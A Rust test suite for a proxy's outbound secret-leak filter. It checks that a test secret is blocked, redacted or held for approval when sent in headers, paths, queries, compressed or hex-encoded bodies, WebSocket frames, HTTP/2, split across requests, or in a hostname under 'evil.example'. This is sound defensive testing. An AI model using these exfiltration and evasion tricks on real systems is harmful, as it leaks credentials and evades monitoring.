//! End-to-end tests of the outbound DLP: each blocked leak has a positive control that
//! the same request without the secret goes through.

mod common;

use std::io::Write;

use bottle_policy::{OnMatch, OutboundDetector, Route};
use bytes::Bytes;
use common::{Fixture, KNOWN_SECRET, TOKEN_VALUE};
use http_body_util::Full;

const API: &str = "api.allowed.example";
const API_AUTHORITY: &str = "api.allowed.example:443";

fn route(fixture: &Fixture, on_match: OnMatch) -> Route {
    let mut route = fixture.route(API);
    route.dlp.outbound_on_match = on_match;
    route
}

fn post(
    path: &str,
    headers: &[(&str, &str)],
    body: impl Into<Bytes>,
) -> http::Request<Full<Bytes>> {
    let mut builder = http::Request::post(path).header("host", API);
    for (name, value) in headers {
        builder = builder.header(*name, *value);
    }
    builder.body(Full::new(body.into())).expect("request")
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(data).expect("write");
    encoder.finish().expect("finish")
}

/// Builds a brotli stream with one uncompressed meta-block (RFC 7932, section 9.2).
fn brotli_stored(data: &[u8]) -> Vec<u8> {
    let length = u32::try_from(data.len() - 1).expect("short");
    let header = (length << 4) | (1 << 20);
    let mut out = header.to_le_bytes()[..3].to_vec();
    out.extend_from_slice(data);
    out.push(0b11);
    out
}

async fn send(
    fixture: &Fixture,
    proxy: std::net::SocketAddr,
    request: http::Request<Full<Bytes>>,
) -> bottle_testkit::client::HttpReply {
    fixture
        .tunnel_request(proxy, API_AUTHORITY, API, request)
        .await
        .expect("reply")
}

#[tokio::test]
async fn block_refuses_secrets_in_every_request_part() {
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;

    let trace = format!("t-{KNOWN_SECRET}");
    let path = format!("/upload/{KNOWN_SECRET}");
    let query = format!("/upload?k={TOKEN_VALUE}");
    let body = format!("{{\"note\":\"{KNOWN_SECRET}\"}}");
    let cases: Vec<(&str, http::Request<Full<Bytes>>)> = vec![
        (
            "header x-trace",
            post("/upload", &[("x-trace", &trace)], ""),
        ),
        ("path", post(&path, &[], "")),
        ("query", post(&query, &[], "")),
        ("body", post("/upload", &[], body.clone())),
        (
            "body",
            post(
                "/upload",
                &[("content-encoding", "gzip")],
                gzip(body.as_bytes()),
            ),
        ),
        (
            "body",
            post(
                "/upload",
                &[("content-encoding", "br")],
                brotli_stored(body.as_bytes()),
            ),
        ),
        (
            "body",
            post(
                "/upload",
                &[("content-encoding", "zstd"), ("content-type", "image/png")],
                ruzstd::encoding::compress_to_vec(
                    body.as_bytes(),
                    ruzstd::encoding::CompressionLevel::Fastest,
                ),
            ),
        ),
    ];
    for (location, request) in cases {
        let reply = send(&fixture, proxy, request).await;
        let text = reply.body_text();
        assert_eq!(reply.status, 403, "{location}: {text}");
        assert_eq!(
            reply.header("x-bottle-decision"),
            Some("deny; rule=dlp:known-secret"),
            "{location}"
        );
        assert!(
            text.contains(&format!("known-secret (raw) in {location}")),
            "{text}"
        );
        assert!(
            !text.contains(KNOWN_SECRET) && !text.contains(TOKEN_VALUE),
            "{text}"
        );
    }
    assert!(
        fixture.requests().is_empty(),
        "a secret reached the upstream"
    );

    let audit = fixture.audit_text();
    assert!(!audit.contains(KNOWN_SECRET) && !audit.contains(TOKEN_VALUE));
    let records = fixture.audit_records();
    let body_record = records
        .iter()
        .find(|r| r["findings"][0]["location"]["part"] == "body")
        .expect("a record with a body finding");
    assert_eq!(body_record["findings"][0]["rule"], "known-secret");
    assert_eq!(body_record["decision"], "deny");

    // Positive control: the same requests without the secret go through.
    let reply = send(
        &fixture,
        proxy,
        post("/upload", &[("x-trace", "t-1")], "{}"),
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.body_text());
    let reply = send(
        &fixture,
        proxy,
        post(
            "/upload",
            &[("content-encoding", "gzip")],
            gzip(b"{\"note\":1}"),
        ),
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.body_text());
    assert_eq!(fixture.requests().len(), 2);
}

#[tokio::test]
async fn block_finds_token_formats_and_encoded_secrets() {
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;

    let github = bottle_testkit::git::fake_github_token();
    let hex: String = KNOWN_SECRET.bytes().map(|b| format!("{b:02x}")).collect();
    for body in [format!("token={github}"), format!("blob={hex}")] {
        let reply = send(&fixture, proxy, post("/upload", &[], body)).await;
        assert_eq!(reply.status, 403, "{}", reply.body_text());
        assert!(!reply.body_text().contains(&github));
    }
    assert!(fixture.requests().is_empty());
    // Positive control.
    let reply = send(&fixture, proxy, post("/upload", &[], "token=placeholder")).await;
    assert_eq!(reply.status, 200);
}

#[tokio::test]
async fn unscannable_bodies_are_refused() {
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;

    let reply = send(
        &fixture,
        proxy,
        post("/u", &[("content-encoding", "x-foo")], "abc"),
    )
    .await;
    assert_eq!(reply.status, 403);
    assert!(
        reply.body_text().contains("content encoding is not one of"),
        "{}",
        reply.body_text()
    );
    assert!(
        !reply.body_text().contains("x-foo"),
        "the refusal echoes a header value"
    );

    let reply = send(
        &fixture,
        proxy,
        post("/u", &[("content-encoding", "gzip")], "abc"),
    )
    .await;
    assert_eq!(reply.status, 403);

    let big = vec![b'a'; 16 * 1024 * 1024 + 1];
    let reply = send(&fixture, proxy, post("/u", &[], big)).await;
    assert_eq!(reply.status, 403);
    assert!(
        reply.body_text().contains("never forwards a body"),
        "{}",
        reply.body_text()
    );
    assert!(fixture.requests().is_empty());

    // Positive control: a body just under the cap is scanned and forwarded.
    let reply = send(&fixture, proxy, post("/u", &[], vec![b'a'; 1024 * 1024])).await;
    assert_eq!(reply.status, 200);
}

#[tokio::test]
async fn redact_replaces_the_value_and_forwards() {
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Redact)])
        .await;

    let trace = format!("t-{KNOWN_SECRET}");
    let body = gzip(format!("note={KNOWN_SECRET}&x=1").as_bytes());
    let path = format!("/upload?q={KNOWN_SECRET}");
    let request = post(
        &path,
        &[("x-trace", &trace), ("content-encoding", "gzip")],
        body,
    );
    let reply = send(&fixture, proxy, request).await;
    assert_eq!(reply.status, 200, "{}", reply.body_text());

    let requests = fixture.requests();
    assert_eq!(requests.len(), 1);
    let seen = &requests[0];
    assert!(!seen.contains(KNOWN_SECRET), "{seen:?}");
    assert_eq!(
        seen.header_values("x-trace"),
        vec!["t-[REDACTED:known-secret]"]
    );
    assert_eq!(seen.body, b"note=[REDACTED:known-secret]&x=1");
    assert!(seen.header_values("content-encoding").is_empty());
    assert_eq!(seen.path, "/upload?q=%5BREDACTED%3Aknown-secret%5D");

    let records = fixture.audit_until(|r| r["findings"].is_array()).await;
    let record = records
        .iter()
        .find(|r| r["findings"].is_array())
        .expect("record");
    assert_eq!(record["decision"], "allow");
    assert_eq!(record["findings"].as_array().map(Vec::len), Some(3));
}

#[tokio::test]
async fn supervise_denies_when_nobody_approves() {
    let fixture = Fixture::new().await;
    // The default action is supervise; the fixture sets a zero-second hold.
    let proxy = fixture.start_proxy(vec![fixture.route(API)]).await;

    let reply = send(&fixture, proxy, post("/upload", &[], KNOWN_SECRET)).await;
    assert_eq!(reply.status, 403);
    assert!(
        reply.body_text().contains("no operator approved it"),
        "{}",
        reply.body_text()
    );
    assert!(fixture.requests().is_empty());

    let reply = send(&fixture, proxy, post("/upload", &[], "clean")).await;
    assert_eq!(reply.status, 200);
}

#[tokio::test]
async fn detectors_follow_the_route() {
    let fixture = Fixture::new().await;
    let mut keys_only = route(&fixture, OnMatch::Block);
    keys_only.dlp.outbound_detectors = vec![OutboundDetector::PrivateKeys];
    let proxy = fixture.start_proxy(vec![keys_only]).await;

    // Known secrets are not scanned on this route, so the value passes.
    let reply = send(&fixture, proxy, post("/upload", &[], KNOWN_SECRET)).await;
    assert_eq!(reply.status, 200);
    // A private key is still refused.
    let key = format!(
        "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7".repeat(4)
    );
    let reply = send(&fixture, proxy, post("/upload", &[], key)).await;
    assert_eq!(reply.status, 403, "{}", reply.body_text());
    assert!(
        reply.body_text().contains("private"),
        "{}",
        reply.body_text()
    );
}

#[tokio::test]
async fn audit_log_never_records_a_secret() {
    let fixture = Fixture::new().await;
    let mut limited = route(&fixture, OnMatch::Block);
    limited.matches = vec![common::prefix_rule("/api/", &["GET"])];
    let proxy = fixture.start_proxy(vec![limited]).await;

    // Refused by the path rule before the DLP runs, and by default deny at CONNECT.
    let path = format!("/leak/{KNOWN_SECRET}");
    let reply = send(&fixture, proxy, post(&path, &[], "")).await;
    assert_eq!(reply.status, 403);
    let (reply, _) = fixture
        .connect(proxy, &format!("{KNOWN_SECRET}.evil.example:443"))
        .await;
    assert_eq!(reply.status, 403);

    let records = fixture.audit_records();
    assert!(
        records
            .iter()
            .any(|r| r["path"] == "/leak/[REDACTED:known-secret]"),
        "{records:#?}"
    );
    assert!(
        records
            .iter()
            .any(|r| r["host"] == "[REDACTED:known-secret].evil.example"),
        "{records:#?}"
    );
    assert!(!fixture.audit_text().contains(KNOWN_SECRET));
}

#[tokio::test]
async fn websocket_message_with_secret_closes_connection() {
    use bottle_testkit::client::{send_http1_upgrade, tls_handshake};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let fixture = Fixture::new().await;
    let mut ws_route = route(&fixture, OnMatch::Redact);
    ws_route.websocket = true;
    let proxy = fixture.start_proxy(vec![ws_route]).await;

    let (reply, stream) = fixture.connect(proxy, API_AUTHORITY).await;
    assert_eq!(reply.status, 200);
    let tls = tls_handshake(stream, fixture.agent_tls(&[b"http/1.1"]), API)
        .await
        .expect("TLS");
    let request = http::Request::get("/ws")
        .header("host", API)
        .header("connection", "Upgrade")
        .header("upgrade", "websocket")
        .header("sec-websocket-version", "13")
        .header("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")
        .header("sec-websocket-extensions", "permessage-deflate")
        .body(Full::new(Bytes::new()))
        .expect("request");
    let (status, upgraded) = send_http1_upgrade(tls, request).await.expect("reply");
    assert_eq!(status, 101);
    let mut upgraded = upgraded.expect("upgraded");

    // Positive control: a clean message is relayed (the upstream echoes it).
    let clean = common::client_frame(b"hello");
    upgraded.write_all(&clean).await.expect("write");
    let mut echo = vec![0u8; clean.len()];
    upgraded.read_exact(&mut echo).await.expect("echo");
    assert_eq!(echo, clean);

    // A message with the secret never reaches the upstream, and the connection closes.
    let leak = common::client_frame(format!("note {KNOWN_SECRET}").as_bytes());
    upgraded.write_all(&leak).await.expect("write");
    let mut rest = Vec::new();
    let closed = tokio::time::timeout(
        std::time::Duration::from_secs(30),
        upgraded.read_to_end(&mut rest),
    )
    .await;
    assert!(
        closed.is_ok(),
        "the proxy kept the connection open after the leak"
    );
    assert!(rest.is_empty(), "the upstream echoed the leaking frame");

    let records = fixture
        .audit_until(|r| r["rule"] == "dlp:known-secret")
        .await;
    let record = records
        .iter()
        .find(|r| r["rule"] == "dlp:known-secret")
        .expect("record");
    assert_eq!(record["findings"][0]["location"]["part"], "websocket");
    let requests = fixture.requests();
    assert!(
        requests[0]
            .header_values("sec-websocket-extensions")
            .is_empty()
    );
}

#[tokio::test]
async fn secret_split_across_requests_is_refused() {
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;

    let pieces = ["prompt", "ed-sec", "ret-5b8", "e0d44c1"];
    assert_eq!(pieces.concat(), KNOWN_SECRET);
    let mut statuses = Vec::new();
    for piece in pieces {
        let reply = send(&fixture, proxy, post(&format!("/u?c={piece}"), &[], "")).await;
        statuses.push((reply.status.as_u16(), reply.body_text()));
    }
    // The pieces before the last carry nothing on their own and pass.
    for (status, text) in &statuses[..3] {
        assert_eq!(*status, 200, "{text}");
    }
    let (status, text) = &statuses[3];
    assert_eq!(*status, 403, "{text}");
    assert!(text.contains("query c across requests"), "{text}");
    assert_eq!(fixture.requests().len(), 3);
}

#[tokio::test]
async fn http2_requests_are_scanned() {
    use bottle_testkit::client::{send_http2, tls_handshake};

    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;
    let h2_post = |body: &str| {
        http::Request::post("https://api.allowed.example/upload")
            .version(http::Version::HTTP_2)
            .header("x-trace", "t-1")
            .body(Full::new(Bytes::from(body.to_owned())))
            .expect("request")
    };
    let mut statuses = Vec::new();
    for body in [format!("note={KNOWN_SECRET}"), "note=clean".to_owned()] {
        let (reply, stream) = fixture.connect(proxy, API_AUTHORITY).await;
        assert_eq!(reply.status, 200);
        let tls = tls_handshake(stream, fixture.agent_tls(&[b"h2"]), API)
            .await
            .expect("TLS");
        assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
        let reply = send_http2(tls, h2_post(&body)).await.expect("reply");
        statuses.push(reply.status.as_u16());
    }
    // The secret is refused; the clean body (positive control) is forwarded.
    assert_eq!(statuses, vec![403, 200]);
    let requests = fixture.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].body, b"note=clean");
}

#[tokio::test]
async fn replaced_credentials_are_not_scanned() {
    // The agent's placeholder credential is shaped like a real token. On a route with a
    // token it is dropped before the request leaves, so it must not trigger the DLP.
    let placeholder = format!("Bearer {KNOWN_SECRET}");
    let fixture = Fixture::new().await;
    let mut with_token = fixture.token_route(API);
    with_token.dlp.outbound_on_match = OnMatch::Block;
    let proxy = fixture.start_proxy(vec![with_token]).await;

    let reply = send(
        &fixture,
        proxy,
        post("/v1", &[("authorization", &placeholder)], ""),
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.body_text());
    let requests = fixture.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(
        requests[0].header_values("authorization"),
        [format!("Bearer {TOKEN_VALUE}")]
    );

    // Positive control: without a token on the route, the same header is forwarded, so
    // the DLP blocks it.
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;
    let reply = send(
        &fixture,
        proxy,
        post("/v1", &[("authorization", &placeholder)], ""),
    )
    .await;
    assert_eq!(reply.status, 403);
    assert!(fixture.requests().is_empty());
}

#[tokio::test]
async fn compressed_data_without_content_encoding_is_scanned() {
    let fixture = Fixture::new().await;
    let proxy = fixture
        .start_proxy(vec![route(&fixture, OnMatch::Block)])
        .await;
    let zstd_member = zstd_raw_block(format!("key={KNOWN_SECRET}").as_bytes());
    let mut multipart = b"--b\r\ncontent-disposition: form-data; name=\"f\"\r\n\r\n".to_vec();
    multipart.extend_from_slice(&gzip(format!("key={KNOWN_SECRET}").as_bytes()));
    multipart.extend_from_slice(b"\r\n--b--\r\n");

    for (what, body) in [
        (
            "a gzip upload",
            gzip(format!("key={KNOWN_SECRET}").as_bytes()),
        ),
        ("a gzip member of a form", multipart),
        ("a zstd upload", zstd_member),
    ] {
        let reply = send(
            &fixture,
            proxy,
            post(
                "/upload",
                &[("content-type", "application/octet-stream")],
                body,
            ),
        )
        .await;
        assert_eq!(reply.status, 403, "{what}: {}", reply.body_text());
        assert!(
            reply.body_text().contains("compressed data in the body"),
            "{what}: {}",
            reply.body_text()
        );
    }
    assert!(fixture.requests().is_empty());

    // Positive control: a harmless gzip upload goes through as the same bytes.
    let harmless = gzip(b"key=nothing to see");
    let reply = send(
        &fixture,
        proxy,
        post(
            "/upload",
            &[("content-type", "application/octet-stream")],
            harmless.clone(),
        ),
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.body_text());
    assert_eq!(fixture.requests()[0].body, harmless);
}

/// Builds a zstd frame with one raw (uncompressed) block (RFC 8878, section 3.1).
fn zstd_raw_block(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd];
    // Frame header: single segment, one-byte content size.
    let size = u8::try_from(data.len()).expect("short");
    out.extend_from_slice(&[0x20, size]);
    // Last block, raw, of data.len() bytes: bit 0 last, bits 1-2 type 0, size << 3.
    let header = (u32::try_from(data.len()).expect("short") << 3) | 1;
    out.extend_from_slice(&header.to_le_bytes()[..3]);
    out.extend_from_slice(data);
    out
}
